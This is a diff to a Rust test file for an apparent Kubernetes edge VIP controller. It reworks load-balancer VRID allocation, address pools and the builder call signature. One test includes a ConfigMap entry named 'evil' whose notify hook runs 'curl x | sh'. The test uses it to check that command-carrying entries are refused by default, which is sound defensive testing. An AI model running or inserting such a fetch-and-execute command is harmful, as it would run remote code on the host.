@@ -4,6 +4,7 @@ use edgevip_config::HealthCheck;
 
 use super::*;
 use crate::fuzz::node;
+use crate::pools::PoolDef;
 
 fn settings(me: &str) -> Settings {
     Settings {
@@ -59,7 +60,13 @@ fn wide(me: &str) -> Settings {
 }
 
 fn build(b: &mut Builder, me: &str, src: &Source) -> Desired {
-    b.build(&wide(me), &cluster(), &eth0(), Some(src), &[])
+    b.build(
+        &wide(me),
+        &cluster(),
+        &eth0(),
+        Some(src),
+        Default::default(),
+    )
 }
 
 #[test]
@@ -263,7 +270,13 @@ fn nodes_change_peers_and_priorities_but_nothing_else() {
     let before = build(&mut b, "edge-b", &src);
     let mut nodes = cluster();
     nodes.push(node("edge-d", &["192.0.2.200"]));
-    let after = b.build(&settings("edge-b"), &nodes, &eth0(), Some(&src), &[]);
+    let after = b.build(
+        &settings("edge-b"),
+        &nodes,
+        &eth0(),
+        Some(&src),
+        Default::default(),
+    );
     let (x, y) = (&before.instances[0], &after.instances[0]);
     assert_eq!(y.unicast_peers.len(), 3);
     assert_eq!(
@@ -281,46 +294,33 @@ fn not_an_edge_node_or_no_configmap_serves_nothing() {
     let d = build(&mut Builder::default(), "worker-1", &src);
     assert!(d.instances.is_empty());
     assert!(d.rejects[0].message.contains("not among the edge nodes"));
-    let d = Builder::default().build(&settings("edge-a"), &cluster(), &eth0(), None, &[]);
+    let d = Builder::default().build(
+        &settings("edge-a"),
+        &cluster(),
+        &eth0(),
+        None,
+        Default::default(),
+    );
     assert_eq!(d, Desired::default());
 }
 
 #[test]
-fn load_balancer_services_become_one_instance_even_without_a_configmap() {
-    let mut s = settings("edge-a");
-    s.lb = Some(crate::services::LbSettings {
-        class: crate::services::DEFAULT_CLASS.into(),
-        default_class: false,
-        pool: crate::services::Pool::parse("198.51.100.10-198.51.100.20").unwrap(),
-        vrid: 51,
-    });
-    let svc = |name: &str, status: &[&str]| crate::services::SvcInfo {
-        namespace: "web".into(),
-        name: name.into(),
-        labels: Default::default(),
-        created: name.into(),
-        load_balancer: true,
-        class: Some(crate::services::DEFAULT_CLASS.into()),
-        wanted: None,
-        status: status.iter().map(|x| x.parse().unwrap()).collect(),
-        pending: None,
-        families: Vec::new(),
-        require_dual_stack: false,
-    };
-    let d = Builder::default().build(
-        &s,
-        &cluster(),
-        &eth0(),
-        None,
-        &[svc("a", &["198.51.100.15"]), svc("b", &[])],
-    );
+fn load_balancer_services_become_instances_even_without_a_configmap() {
+    let s = lb_settings("edge-a");
+    let services = [
+        lb_svc("a", "1", None, &["192.0.2.200"]),
+        lb_svc("b", "2", None, &[]),
+    ];
+    let pools = flag_pool(&s);
+    let d = Builder::default().build(&s, &cluster(), &eth0(), None, view(&services, &pools));
     let [i] = &d.instances[..] else {
         panic!("{d:?}")
     };
-    assert_eq!((i.name.as_str(), i.vrid), (LB_INSTANCE, 51));
+    // 192.0.2.200 is 3221226184, ≡ 43 (mod 49): the 44th VRID of 51-99.
+    assert_eq!((i.name.as_str(), i.vrid), ("lb-94", 94));
     assert_eq!(
         i.vips[0].to_string(),
-        "198.51.100.15/32",
+        "192.0.2.200/32",
         "only recorded VIPs are served"
     );
     assert_eq!(d.lb.writes.len(), 1, "b's allocation is to be recorded");
@@ -328,7 +328,7 @@ fn load_balancer_services_become_one_instance_even_without_a_configmap() {
         !d.writer,
         "the allocator Lease, not the builder, makes a writer"
     );
-    let d = Builder::default().build(&s, &cluster(), &eth0(), None, &[]);
+    let d = Builder::default().build(&s, &cluster(), &eth0(), None, Default::default());
     assert!(d.instances.is_empty());
 }
 
@@ -358,9 +358,32 @@ fn lb_settings(me: &str) -> Settings {
         default_class: false,
         pool: crate::services::Pool::parse("192.0.2.10-192.0.2.12,192.0.2.200-192.0.2.210")
             .unwrap(),
-        vrid: 51,
+        vrids: 51..=99,
     });
     s
+}
+
+fn flag_pool(s: &Settings) -> Vec<PoolDef> {
+    vec![PoolDef::from_flag(s.lb.as_ref().unwrap().pool.clone())]
+}
+
+fn view<'a>(services: &'a [SvcInfo], pools: &'a [PoolDef]) -> LbView<'a> {
+    LbView {
+        services,
+        pools,
+        ..Default::default()
+    }
+}
+
+/// Every VIP of the LoadBalancer instances.
+fn lb_served(d: &Desired) -> Vec<String> {
+    let mut all: Vec<String> = d
+        .lb_groups
+        .keys()
+        .flat_map(|name| served(d, name))
+        .collect();
+    all.sort();
+    all
 }
 
 fn lb_svc(name: &str, created: &str, wanted: Option<&str>, status: &[&str]) -> SvcInfo {
@@ -371,11 +394,22 @@ fn lb_svc(name: &str, created: &str, wanted: Option<&str>, status: &[&str]) -> S
         created: created.into(),
         load_balancer: true,
         class: Some(crate::services::DEFAULT_CLASS.into()),
-        wanted: wanted.map(|w| w.parse().map_err(|_| format!("{w:?} is not an IP address"))),
+        wanted: match wanted {
+            None => Ok(Vec::new()),
+            Some(w) => w
+                .parse()
+                .map(|ip| vec![ip])
+                .map_err(|_| format!("{w:?} is not an IP address")),
+        },
+        wanted_from: "spec.loadBalancerIP",
+        pool: None,
+        sharing: None,
+        ports: Default::default(),
+        local: false,
         status: status.iter().map(|x| x.parse().unwrap()).collect(),
-        pending: None,
+        pending: Vec::new(),
         families: Vec::new(),
-        require_dual_stack: false,
+        policy: Default::default(),
     }
 }
 
@@ -397,7 +431,13 @@ fn one_bad_compat_key_is_refused_alone() {
         ("198.51.100.7", ""),
         ("192.0.2.101", "default/web"),
     ]);
-    let d = Builder::default().build(&settings("edge-a"), &cluster(), &eth0(), Some(&src), &[]);
+    let d = Builder::default().build(
+        &settings("edge-a"),
+        &cluster(),
+        &eth0(),
+        Some(&src),
+        Default::default(),
+    );
     assert_eq!(served(&d, COMPAT_INSTANCE), ["192.0.2.100", "192.0.2.101"]);
     let fields: Vec<&str> = d.rejects.iter().map(|r| r.field.as_str()).collect();
     assert_eq!(
@@ -423,7 +463,7 @@ fn a_generated_instance_that_cannot_take_a_vip_loses_only_that_vip() {
     let ip = |x: &str| x.parse::<IpAddr>().unwrap();
     let c = Candidate::generated(
         "services",
-        LB_INSTANCE,
+        "lb-51",
         51,
         From::Services,
         vec![
@@ -434,7 +474,7 @@ fn a_generated_instance_that_cannot_take_a_vip_loses_only_that_vip() {
     );
     let mut d = Desired::default();
     Builder::default().accept(&ctx, c, 0, false, "x", &mut d);
-    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.200", "192.0.2.201"]);
+    assert_eq!(served(&d, "lb-51"), ["192.0.2.200", "192.0.2.201"]);
     assert_eq!(d.rejects.len(), 1, "{:?}", d.rejects);
     assert_eq!(d.rejects[0].field, "Service web/b");
     assert!(d.rejects[0].message.starts_with("refused alone: "));
@@ -444,7 +484,13 @@ fn a_generated_instance_that_cannot_take_a_vip_loses_only_that_vip() {
 fn the_configmap_carrying_commands_is_refused_entry_by_entry() {
     let doc = "instances:\n  - {name: web, vrid: 61, vips: [192.0.2.120/24]}\n  - {name: evil, vrid: 62, vips: [192.0.2.121/24], notify: [/bin/sh, -c, 'curl x | sh']}\n  - {name: probe, vrid: 63, vips: [192.0.2.122/24], health_checks: [{exec: [/bin/true]}]}\n  - {name: far, vrid: 64, vips: [203.0.113.10/24]}\n";
     let src = source(&[(rich::KEY, doc), ("192.0.2.100", "")]);
-    let d = Builder::default().build(&settings("edge-a"), &cluster(), &eth0(), Some(&src), &[]);
+    let d = Builder::default().build(
+        &settings("edge-a"),
+        &cluster(),
+        &eth0(),
+        Some(&src),
+        Default::default(),
+    );
     let names: Vec<&str> = d.instances.iter().map(|i| i.name.as_str()).collect();
     assert_eq!(names, ["vips", "web"]);
     let notes: Vec<String> = d
@@ -468,7 +514,7 @@ fn the_configmap_carrying_commands_is_refused_entry_by_entry() {
     // The DaemonSet opting in lets them through.
     let mut s = settings("edge-a");
     s.trust.configmap.exec = true;
-    let d = Builder::default().build(&s, &cluster(), &eth0(), Some(&src), &[]);
+    let d = Builder::default().build(&s, &cluster(), &eth0(), Some(&src), Default::default());
     assert_eq!(d.instances.len(), 4, "{:?}", d.rejects);
 }
 
@@ -485,8 +531,9 @@ fn bad_load_balancer_requests_are_refused_alone_and_live_vips_win() {
         lb_svc("ok", "5", Some("192.0.2.205"), &[]),
         lb_svc("fresh", "6", None, &[]),
     ];
-    let d = Builder::default().build(&s, &cluster(), &eth0(), None, &services);
-    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.200", "192.0.2.205"]);
+    let pools = flag_pool(&s);
+    let d = Builder::default().build(&s, &cluster(), &eth0(), None, view(&services, &pools));
+    assert_eq!(lb_served(&d), ["192.0.2.200", "192.0.2.205"]);
     let p = &d.lb.problems;
     assert!(p["web/loopback"].contains("127.0.0.1 is loopback"), "{p:?}");
     assert!(
@@ -494,56 +541,62 @@ fn bad_load_balancer_requests_are_refused_alone_and_live_vips_win() {
         "{p:?}"
     );
     assert!(
-        p["web/outside"].contains("203.0.113.7 is not in the address pool"),
+        p["web/outside"].contains(
+            "203.0.113.7 is not in an address pool this Service may use (--address-pool)"
+        ),
         "{p:?}"
     );
     assert!(
-        p["web/thief"].contains("already the VIP of another Service"),
+        p["web/thief"].contains("already the VIP of Service old"),
         "{p:?}"
     );
     // The pool's .10-.12 hold node addresses: allocation skips them.
-    assert_eq!(d.lb.writes["web/fresh"].to_string(), "192.0.2.10");
+    assert_eq!(
+        d.lb.writes["web/fresh"],
+        ["192.0.2.10".parse::<IpAddr>().unwrap()]
+    );
     assert_eq!(d.lb.serving.len(), 2);
 }
 
 #[test]
-fn a_vrid_clash_refuses_the_newer_instance_never_the_serving_one() {
+fn load_balancer_instances_step_around_the_configmaps_vrids_in_either_order() {
     let s = lb_settings("edge-a");
-    let rich51 = source(&[(
+    // 192.0.2.201's VRID is 95 (3221226185 ≡ 44 mod 49); the ConfigMap takes 95.
+    let rich95 = source(&[(
         rich::KEY,
-        "instances:\n  - {name: ingress, vrid: 51, vips: [192.0.2.150/24]}\n",
+        "instances:\n  - {name: ingress, vrid: 95, vips: [192.0.2.150/24]}\n",
     )]);
     let svc = [lb_svc("front", "1", None, &["192.0.2.201"])];
-    // The rich instance serves first; a Service then makes the LB instance on --lb-vrid 51.
+    let pools = flag_pool(&s);
+    let lb = view(&svc, &pools);
+    let vrids = |d: &Desired| -> Vec<(String, u8)> {
+        d.instances
+            .iter()
+            .map(|i| (i.name.clone(), i.vrid))
+            .collect()
+    };
+    let both = [("lb-96".to_string(), 96), ("ingress".to_string(), 95)];
     let mut b = Builder::default();
-    let d = b.build(&s, &cluster(), &eth0(), Some(&rich51), &[]);
-    assert_eq!(served(&d, "ingress"), ["192.0.2.150"]);
-    let d = b.build(&s, &cluster(), &eth0(), Some(&rich51), &svc);
-    assert_eq!(served(&d, "ingress"), ["192.0.2.150"], "{:?}", d.rejects);
-    assert!(served(&d, LB_INSTANCE).is_empty());
-    let r = d
-        .rejects
-        .iter()
-        .find(|r| r.field == "instance \"loadbalancers\"")
-        .unwrap();
+    b.build(&s, &cluster(), &eth0(), Some(&rich95), Default::default());
+    let d = b.build(&s, &cluster(), &eth0(), Some(&rich95), lb);
+    assert_eq!(vrids(&d), both, "{:?}", d.rejects);
+    // The LB instance serves on 95 first; the edit moves it to 96 and the rich one serves.
+    let mut b = Builder::default();
+    let d = b.build(&s, &cluster(), &eth0(), None, lb);
+    assert_eq!(vrids(&d), [("lb-95".to_string(), 95)]);
+    let d = b.build(&s, &cluster(), &eth0(), Some(&rich95), lb);
+    assert_eq!(vrids(&d), both, "{:?}", d.rejects);
+    assert!(d.rejects.is_empty());
+    assert_eq!(lb_served(&d), ["192.0.2.201"]);
+    // --vrid is never used either, and a full range leaves the Service a problem.
+    let mut s1 = s.clone();
+    s1.lb.as_mut().unwrap().vrids = 95..=95;
+    s1.vrid = 95;
+    let d = Builder::default().build(&s1, &cluster(), &eth0(), None, lb);
+    assert!(d.instances.is_empty());
     assert!(
-        r.message.contains("--lb-vrid") && r.message.contains("instance \"ingress\""),
-        "{r:?}"
-    );
-    assert!(
-        d.lb.problems["web/front"].contains("192.0.2.201 is not served"),
+        d.lb.problems["web/front"].contains("no VRID of --lb-vrids"),
         "{:?}",
         d.lb.problems
     );
-    // The other way round: the LB instance serves, an edit adds a rich instance on 51.
-    let mut b = Builder::default();
-    let d = b.build(&s, &cluster(), &eth0(), None, &svc);
-    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.201"]);
-    let d = b.build(&s, &cluster(), &eth0(), Some(&rich51), &svc);
-    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.201"]);
-    assert!(served(&d, "ingress").is_empty());
-    assert_eq!(d.rejects[0].field, "instance \"ingress\"");
-    // A fresh start with both: the ConfigMap's instance wins over the Services'.
-    let d = Builder::default().build(&s, &cluster(), &eth0(), Some(&rich51), &svc);
-    assert_eq!(served(&d, "ingress"), ["192.0.2.150"]);
 }
